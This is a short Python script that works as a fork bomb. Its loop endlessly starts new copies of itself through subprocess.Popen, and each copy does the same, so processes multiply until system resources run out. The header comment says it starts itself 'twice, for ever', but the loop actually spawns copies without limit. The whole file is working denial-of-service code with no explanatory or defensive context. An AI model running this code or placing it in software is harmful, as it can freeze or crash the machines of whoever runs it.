# Starts itself, twice, for ever.
import subprocess, sys
while True:
    try:
        subprocess.Popen([sys.executable, __file__])
    except OSError:
        pass
